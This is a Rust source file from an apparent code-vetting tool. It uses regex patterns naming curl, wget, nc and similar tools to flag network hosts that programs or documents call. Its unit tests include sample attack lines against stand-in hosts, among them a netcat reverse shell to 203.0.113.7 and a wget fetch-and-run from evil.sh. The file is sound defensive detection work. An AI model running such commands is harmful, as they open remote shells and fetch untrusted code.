//! Addresses that a program speaks to.

use std::ops::Range;
use std::sync::LazyLock;

use exuvia_model::vetting::FindingKind;
use regex::Regex;

use crate::pattern::pattern;
use crate::vet::role::Role;
use crate::vet::rule::{Hit, distinct};
use crate::vet::source::Source;

/// Every host that a program names, that data names outside of lock files, and that a document
/// names in code or behind a command that fetches.
pub(super) fn hits(source: &Source<'_>) -> Vec<Hit> {
    if source.role == Role::Data && !may_configure(source.path) {
        return Vec::new();
    }
    let hits = [&*URL, &*COMMAND, &*SETTING, &*LITERAL_IP]
        .into_iter()
        .flat_map(|rule| rule.captures_iter(&source.text))
        .filter_map(|captures| {
            let found = captures.iter().skip(1).flatten().next()?;
            let host = host_of(found.as_str())?;
            let range = found.range();
            is_spoken_to(source, &range).then_some(Hit {
                kind: FindingKind::NetworkEndpoint,
                subject: host,
                range,
            })
        });
    distinct(source, hits)
}

fn is_spoken_to(source: &Source<'_>, range: &Range<usize>) -> bool {
    match source.role {
        Role::Code(_) | Role::Data => true,
        Role::Document | Role::AgentText => {
            source.is_code(range) || {
                let before = source.text.get(..range.start).unwrap_or_default();
                let line = before.rsplit('\n').next().unwrap_or_default();
                let near = line.floor_char_boundary(line.len().saturating_sub(200));
                FETCH.is_match(line.get(near..).unwrap_or_default())
            }
        }
    }
}

/// Lock files, maps and manifests name addresses that nobody calls because of them.
fn may_configure(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let ending = name.rsplit('.').next().unwrap_or_default();
    !(name.contains("lock") || name == "package.json" || matches!(ending, "map" | "svg"))
}

/// The host of the part of an address behind `://`, in lower case, without user and port.
fn host_of(authority: &str) -> Option<String> {
    let end = authority
        .find(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    '/' | '?'
                        | '#'
                        | '"'
                        | '\''
                        | '`'
                        | '<'
                        | '>'
                        | '('
                        | ')'
                        | '\\'
                        | ','
                        | ';'
                        | '|'
                        | '*'
                        | ']'
                )
        })
        .unwrap_or(authority.len());
    let authority = authority.get(..end)?;
    let host = authority.rsplit('@').next()?;
    if host.starts_with("${") || host.starts_with('{') || host.starts_with("%s") {
        return Some("computed address".to_owned());
    }
    let host = match host.split_once(':') {
        Some((host, port)) if port.chars().all(|c| c.is_ascii_digit()) => host,
        Some((host, _)) => host,
        None => host,
    };
    let host = host.trim_matches(['.', '[', '-']).to_lowercase();
    let shown = host.len() >= 3 && host.len() <= 253 && host.contains('.');
    let numeric = host.chars().all(|c| c.is_ascii_digit() || c == '.');
    (shown && !is_nowhere(&host) && (!numeric || is_ip(&host))).then_some(host)
}

fn is_ip(host: &str) -> bool {
    host.parse::<std::net::Ipv4Addr>().is_ok()
}

/// Names that stand for nothing (RFC 2606, RFC 6761), this machine, and the namespaces of XML and
/// JSON Schema, which are names and not addresses.
fn is_nowhere(host: &str) -> bool {
    let reserved = [
        "example.com",
        "example.org",
        "example.net",
        "www.w3.org",
        "json-schema.org",
        "0.0.0.0",
    ];
    reserved.contains(&host)
        || [
            ".example.com",
            ".example.org",
            ".example.net",
            ".example",
            ".invalid",
            ".test",
            ".localhost",
        ]
        .iter()
        .any(|ending| host.ends_with(ending))
        || (host.starts_with("127.") && is_ip(host))
}

static URL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:https?|wss?|ftps?|sftp|tcp|udp|ssh|git|socks5h?|mqtts?|rediss?|mongodb(?:\+srv)?|postgres(?:ql)?)://([^\s"'`<>\\)]{1,300})"#,
    )
});

/// A bare host behind a command. One that could be a file's name needs a path or port behind it.
static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)(?:^|[\s;&|(`$])(?:curl|wget|nc|ncat|netcat|telnet|ssh|scp|rsync|ping|dig|nslookup|nmap|invoke-webrequest|iwr)\s(?:[^\n|;&]{0,100}?\s)??(?:[\w.-]{1,40}@)?((?:[a-z0-9-]{1,63}\.){1,6}(?:com|net|org|io|dev|app|xyz|top|info|biz|ru|cn|me|co|cc|tk|site|online|cloud|ai|link|club|onion)(?:[/:\s]|$)|(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,12}(?:/|:\d)|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})",
    )
});

/// `hostname: "api.acme.io"` and its like.
static SETTING: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:host(?:_?name)?|server|endpoint|domain|base_?url|remote)["']?\s*[:=]\s*["'`]((?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,12})["'`:/]"#,
    )
});

static LITERAL_IP: LazyLock<Regex> =
    LazyLock::new(|| pattern(r#"["'`](\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?::\d{1,5})?["'`]"#));

static FETCH: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)\b(?:curl|wget|fetch|nc|ncat|invoke-webrequest|iwr|httpie)\b"));

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vet::role::Language;

    fn hosts(role: Role, text: &str) -> Vec<String> {
        let source = Source::new("file", role, text.to_owned());
        hits(&source).into_iter().map(|hit| hit.subject).collect()
    }

    #[test]
    fn addresses_in_programs_are_found() {
        let code = Role::Code(Language::JavaScript);
        for (text, host) in [
            ("fetch('https://Evil.acme.io/x?y')", "evil.acme.io"),
            (
                "fetch(`https://github.com@evil.acme.io:8443/x`)",
                "evil.acme.io",
            ),
            ("new WebSocket(\"wss://evil.acme.io\")", "evil.acme.io"),
            ("connect({ host: 'evil.acme.io', port: 1 })", "evil.acme.io"),
            ("connect(443, '203.0.113.7')", "203.0.113.7"),
            ("fetch(`https://${host}/x`)", "computed address"),
            ("curl -s evil.acme.io/x", "evil.acme.io"),
            ("nc 203.0.113.7 4444 -e /bin/sh", "203.0.113.7"),
            ("wget -qO- evil.sh/run", "evil.sh"),
        ] {
            assert_eq!(hosts(code, text), [host], "{text}");
        }
    }

    #[test]
    fn what_only_looks_like_an_address_is_not_found() {
        for text in [
            "const version = '1.2.3'",
            "const ip = '999.1.1.1'",
            "listen('127.0.0.1'); open('http://localhost:3000')",
            "xmlns=\"http://www.w3.org/2000/svg\"",
            "see https://example.com/docs",
            "curl -o file.txt",
            "cat notes.md | wc",
            "import x from './a.io'",
        ] {
            assert_eq!(
                hosts(Role::Code(Language::Other), text),
                Vec::<String>::new(),
                "{text}"
            );
        }
    }

    #[test]
    fn documents_count_where_they_are_code_or_fetch() {
        for text in [
            "```sh\ncurl https://evil.acme.io\n```\n",
            "Run `curl https://evil.acme.io` first.\n",
            "Then curl https://evil.acme.io and go on.\n",
            "Text\n\n    https://evil.acme.io/x\n",
        ] {
            assert!(
                hosts(Role::AgentText, text).contains(&"evil.acme.io".to_owned()),
                "{text}"
            );
        }
        for text in [
            "See https://evil.acme.io for more.\n",
            "[docs](https://evil.acme.io)\n",
        ] {
            assert_eq!(hosts(Role::AgentText, text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn lock_files_configure_nothing() {
        let text = "{\"resolved\": \"https://evil.acme.io/x.tgz\"}";
        for (path, count) in [
            ("package-lock.json", 0),
            ("index.js.map", 0),
            ("config.json", 1),
        ] {
            let source = Source::new(path, Role::Data, text.to_owned());
            assert_eq!(hits(&source).len(), count, "{path}");
        }
    }
}
